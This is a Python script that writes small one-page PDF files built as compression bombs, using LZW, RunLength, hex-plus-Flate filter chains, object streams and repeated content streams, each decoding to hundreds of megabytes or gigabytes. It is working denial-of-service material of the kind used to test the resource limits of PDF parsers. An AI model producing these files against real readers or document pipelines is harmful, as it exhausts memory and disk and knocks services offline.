#!/usr/bin/env python3
"""Writes to stdout a small PDF file of one page in which one stream
decodes to gigabytes: a compression bomb through a filter other than
FlateDecode alone, or hidden in an object stream.

    gen_bomb_pdf.py lzw | runlength | hexflate | objstm | total

lzw:       the page content, LZW codes for ever longer runs of zeros
           (some 14 KB decoding to 150 MB);
runlength: the page content, [/FlateDecode /RunLengthDecode], 2 GiB;
hexflate:  the page content, [/ASCIIHexDecode /FlateDecode], 2 GiB;
objstm:    the page objects in an object stream that inflates to 2 GiB,
           listed by a cross-reference stream;
total:     five content streams of one page, each inflating to 60 MiB,
           300 MiB in all.
"""
import sys
import zlib


def zeros_deflate(blocks):
    """A zlib stream of blocks x 16 MiB of zeros, made of one raw
    deflate block repeated (each independent of the last)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"\0" * (1 << 24)) + c.flush(zlib.Z_FULL_FLUSH)
    n = blocks << 24
    adler = ((n % 65521) << 16) | 1
    return b"\x78\xda" + block * blocks + b"\x03\x00" + adler.to_bytes(4, "big")


def lzw_zeros(rounds):
    """LZW codes (EarlyChange 1) for runs of zeros of length 1, 2, 3,
    ... until the table is full, then a clear code; rounds times."""
    out, acc, nacc = bytearray(), 0, 0

    def put(code, width):
        nonlocal acc, nacc
        acc = (acc << width) | code
        nacc += width
        while nacc >= 8:
            out.append((acc >> (nacc - 8)) & 0xFF)
            nacc -= 8

    for _ in range(rounds):
        width, nxt = 9, 258
        put(0, width)
        while nxt < 4096:
            put(nxt, width)
            nxt += 1
            if nxt + 1 >= (1 << width) and width < 12:
                width += 1
        put(256, width)
    put(257, 9)
    if nacc:
        out.append((acc << (8 - nacc)) & 0xFF)
    return bytes(out)


def classic(objs):
    """A PDF with a classic cross-reference table."""
    out = b"%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, x)
    return out


def page_with(filters, data):
    return classic([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter %s >>\nstream\n" % (len(data), filters) + data +
        b"\nendstream"])


def objstm():
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R >>"]
    body, offs = b"", []
    for o in objs:
        offs.append(len(body))
        body += o + b" "
    head = b"".join(b"%d %d " % (i + 1, offs[i]) for i in range(3))
    # The objects, then 2 GiB of zeros: one zlib stream of deflate
    # blocks, the first holding the objects.
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head + body) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"\0" * (1 << 24)) + c.flush(zlib.Z_FULL_FLUSH)
    data = b"\x78\xda" + first + block * 128 + b"\x03\x00" + b"\0\0\0\0"
    out = b"%PDF-1.5\n"
    o4 = len(out)
    out += (b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
            % (len(head), len(data)) + data + b"\nendstream\nendobj\n")
    o5 = len(out)
    content = b"BT ET"
    out += b"5 0 obj\n<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream\nendobj\n"
    o6 = len(out)
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, o4, 0), (1, o5, 0), (1, o6, 0)]
    x = b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for t, a, b in rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % len(x) + x + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % o6
    return out


def main():
    kind = sys.argv[1] if len(sys.argv) > 1 else ""
    if kind == "lzw":
        pdf = page_with(b"/LZWDecode", lzw_zeros(20))
    elif kind == "runlength":
        rl = b"\x81\0" * (1 << 24)		# 2 bytes, 128 zeros
        pdf = page_with(b"[/FlateDecode /RunLengthDecode]", zlib.compress(rl, 9))
    elif kind == "hexflate":
        pdf = page_with(b"[/ASCIIHexDecode /FlateDecode]",
                        zeros_deflate(128).hex().encode() + b">")
    elif kind == "objstm":
        pdf = objstm()
    elif kind == "total":
        c = zlib.compressobj(9)
        data = c.compress(b"\0" * (60 << 20)) + c.flush()
        stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
        pdf = classic([
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R 6 0 R 7 0 R 8 0 R] >>"]
            + [stream] * 5)
    else:
        sys.exit(__doc__)
    sys.stdout.buffer.write(pdf)


main()
